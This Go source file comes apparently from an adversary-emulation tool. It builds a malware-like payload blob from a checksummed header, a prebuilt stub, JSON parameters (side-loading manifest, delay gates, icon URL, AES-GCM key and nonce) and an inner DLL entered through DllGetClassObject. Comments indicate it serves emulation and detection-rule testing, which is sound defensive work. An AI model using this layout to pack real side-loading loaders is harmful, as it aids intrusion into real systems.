package replicas

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"time"

	"sidetrace/loaders/pe"
)

// payloadHeader is struct payload of src/payload/payload.h.
type payloadHeader struct {
	Magic                      [8]byte
	CRC32                      uint32 // IEEE, of all that follows
	Stub                       uint32 // offset of the code that runs first
	Parameters, ParametersSize uint32
	Image, ImageSize           uint32 // the inner DLL as it is mapped
	Start                      uint32 // RVA of DllGetClassObject in it
	Reserved                   uint32
}

const (
	payloadMagic = "STPAYLD1"
	crcFrom      = 12 + 4 // the checksum covers what lies behind Stub
)

// parameters is what the emulator performs the stages by. The payload's code
// carries it along without reading it.
type parameters struct {
	Manifest   string `json:"manifest"` // file beside the application
	GateMin    int64  `json:"gate_min_s"`
	GateSpread int64  `json:"gate_spread_s"`
	IconURL    string `json:"icon_url"`
	Icons      int    `json:"icons"`
	GCMKey     string `json:"gcm_key"`
	GCMNonce   string `json:"gcm_nonce"`
	Answer     string `json:"answer"`
}

func (p Params) json() ([]byte, error) {
	var b bytes.Buffer
	e := json.NewEncoder(&b)
	e.SetEscapeHTML(false) // URLs stay as rules look for them
	err := e.Encode(parameters{
		Manifest:   "manifest",
		GateMin:    int64(p.Gate.Min / time.Second),
		GateSpread: int64(p.Gate.Spread / time.Second),
		IconURL:    p.IconURL,
		Icons:      iconCount,
		GCMKey:     hex.EncodeToString(p.GCMKey),
		GCMNonce:   hex.EncodeToString(p.GCMNonce),
		Answer:     p.Answer,
	})
	return bytes.TrimSuffix(b.Bytes(), []byte("\n")), err
}

// payload lays out the plaintext: header, stub, parameters, inner image.
func payload(p Params) ([]byte, error) {
	stub, err := prebuilt.ReadFile("prebuilt/stub.bin")
	if err != nil {
		return nil, err
	}
	image, err := prebuilt.ReadFile("prebuilt/samcli.dll")
	if err != nil {
		return nil, err
	}
	text, err := p.json()
	if err != nil {
		return nil, err
	}
	start, err := exported(image, "DllGetClassObject")
	if err != nil {
		return nil, err
	}

	h := payloadHeader{Magic: [8]byte([]byte(payloadMagic)), Start: start}
	h.Stub = uint32(binary.Size(h))
	data := append(make([]byte, h.Stub), stub...)
	data = pad(data, 16)
	h.Parameters, h.ParametersSize = uint32(len(data)), uint32(len(text))
	data = pad(append(data, text...), 16)
	h.Image, h.ImageSize = uint32(len(data)), uint32(len(image))
	data = append(data, image...)

	if _, err := binary.Encode(data, binary.LittleEndian, h); err != nil {
		return nil, err
	}
	binary.LittleEndian.PutUint32(data[8:], crc32.ChecksumIEEE(data[crcFrom:]))
	return data, nil
}

// pad appends zeros up to a multiple of n.
func pad(b []byte, n int) []byte {
	return append(b, make([]byte, (n-len(b)%n)%n)...)
}

// exported returns the RVA of a name that a PE of ours exports.
func exported(data []byte, name string) (uint32, error) {
	image, err := pe.Parse(data)
	if err != nil {
		return 0, err
	}
	if image.Exports != nil {
		for _, e := range image.Exports.Symbols {
			if e.Name == name {
				return e.RVA, nil
			}
		}
	}
	return 0, fmt.Errorf("replicas: the prebuilt inner image does not export %s", name)
}
